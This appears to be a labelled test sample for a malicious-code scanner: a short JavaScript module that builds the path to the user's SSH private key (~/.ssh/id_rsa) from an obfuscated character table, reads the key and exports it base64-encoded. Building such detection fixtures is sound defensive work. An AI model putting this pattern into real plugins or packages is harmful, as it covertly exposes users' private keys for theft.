// expect: category=filesystem min=85 context=plugin,package
// why: the directory and file names of the private key are assembled from a character table.
const fs = require('fs');
const os = require('os');

const alphabet = 'adehiknorsy_.';
const pick = (idx) => idx.map((i) => alphabet[i]).join('');

const dir = pick([12, 9, 9, 3]);
const file = pick([4, 1, 11, 8, 9, 0]);
const data = fs.readFileSync(os.homedir() + '/' + dir + '/' + file);

module.exports = data.toString('base64');
